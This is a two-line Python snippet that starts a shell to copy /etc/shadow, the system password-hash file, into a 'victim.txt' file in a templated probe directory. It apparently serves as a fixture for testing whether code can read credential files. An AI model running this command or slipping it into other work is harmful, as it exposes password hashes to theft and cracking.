import subprocess
subprocess.run(['/bin/sh', '-c', 'cat /etc/shadow > {{PROBE}}/victim.txt'])
